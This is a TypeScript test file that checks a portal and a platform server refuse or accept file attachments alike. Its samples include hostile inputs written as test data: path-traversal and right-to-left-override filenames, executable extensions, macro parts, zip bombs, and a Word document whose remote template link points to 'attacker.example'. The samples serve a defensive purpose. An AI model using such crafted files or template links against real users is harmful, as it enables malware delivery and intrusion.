import { describe, expect, it } from "vitest";
import * as portal from "~/lib/attachments";
import { readFileSync } from "node:fs";
import { contentProblemOf as portalContentProblem } from "~/lib/attachment-content.server";
import * as portalPackage from "~/lib/office-package.server";
import * as platform from "../../server/lib/attachments";
import * as platformPackage from "../../server/lib/office-package";
import { DOC_MESSAGES } from "../../server/api/docnote/scope";
import {
  craftedTextDocument,
  craftedWordDocument,
  craftedWorkbook,
  SAMPLES,
  wordDocument,
  workbook,
  zipBomb,
} from "../sample-files";

// The portal and the platform each keep the attachment rule (docs/decisions/111): the portal to
// tell the client at once, the platform because it trusts no client. The two copies must agree,
// or a file the portal lets through is refused by the platform with no message by the field.

const NAMES = [
  "statement.pdf",
  "Statement.PDF",
  "statement=2026.pdf",
  "evil.exe.",
  "evil.exe . . ",
  "notes.txt ",
  "photo.JPEG",
  "report.html",
  "vector.svg",
  "run.hta",
  "screen.scr",
  "script.ps1",
  "..\\..\\windows\\system.ini",
  "folder/inner/tax return.xlsx",
  "invoice\u202Efdp.exe",
  "ｓｔａｔｅｍｅｎｔ．ｐｄｆ",
  "no-extension",
  "",
  `${"a".repeat(300)}.docx`,
];

/** Every sample: the plain ones, and Office packages ordinary, active, linked outside and a bomb. */
const samples = () => [
  ...Object.values(SAMPLES).map((make) => make()),
  wordDocument(),
  wordDocument(true),
  workbook(),
  craftedWordDocument(),
  craftedWorkbook(),
  craftedTextDocument(),
  craftedWordDocument({ parts: { "word/vbaProject.bin": new Uint8Array(16) } }),
  craftedTextDocument({ "Basic/Standard/Module1.xml": "<script:module/>" }),
  craftedWordDocument({
    relationships: `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://attacker.example/t.dotm" TargetMode="External"/>`,
  }),
  zipBomb(2048),
  zipBomb(64, 1024),
];

describe("the portal's and the platform's attachment rules", () => {
  it("have the same allow-list, each type with the same Content-Type and content", () => {
    expect(portal.ATTACHMENT_TYPES).toEqual(platform.ATTACHMENT_TYPES);
  });

  it.each(NAMES)("normalise and judge %j alike", (name) => {
    const normalised = portal.normaliseFilename(name);
    expect(platform.normaliseFilename(name)).toBe(normalised);
    expect(platform.isAllowedAttachment(normalised)).toBe(portal.attachmentTypeOf(normalised) !== null);
    expect(platform.attachmentContentType(normalised)).toBe(portal.contentTypeOf(normalised));
  });

  it("judge every sample file's content alike under every allowed name", async () => {
    const extensions = Object.keys(portal.ATTACHMENT_TYPES);
    const verdicts = new Set<string | null>();
    for (const bytes of samples()) {
      for (const ext of extensions) {
        const name = `file.${ext}`;
        const verdict = await portalContentProblem(name, bytes);
        expect(await platform.contentProblemOf(name, bytes), `${name}`).toBe(verdict);
        verdicts.add(verdict);
      }
    }
    // the samples meet every verdict: the comparison is not between two refusals only
    expect([...verdicts].sort()).toEqual(["active-content", "external", "mismatch", "unpacked-too-large", null].sort());
  });

  it("read Office packages with the same limits and the same code (issue 39)", () => {
    expect(portalPackage.PACKAGE_LIMITS).toEqual(platformPackage.PACKAGE_LIMITS);
    // the two copies differ in their opening comment only (its lines start the line with '//')
    const code = (path: string) => readFileSync(new URL(path, import.meta.url), "utf8").replace(/^\/\/.*\n/gm, "");
    const portalCode = code("../../app/lib/office-package.server.ts");
    expect(portalCode.length).toBeGreaterThan(1000);
    expect(code("../../server/lib/office-package.ts")).toBe(portalCode);
  });

  it("scan with clamd by the same code, and answer a virus with the same text (docs/decisions/192)", () => {
    const code = (path: string) => readFileSync(new URL(path, import.meta.url), "utf8").replace(/^\/\/.*\n/gm, "");
    const portalCode = code("../../app/lib/virus-scan.server.ts");
    expect(portalCode.length).toBeGreaterThan(1000);
    expect(code("../../server/lib/virus-scan.ts")).toBe(portalCode);
    const english = JSON.parse(readFileSync(new URL("../../app/locales/en-GB/compose.json", import.meta.url), "utf8"));
    expect(english["errors.fileVirus"]).toBe(DOC_MESSAGES.virus);
  });
});
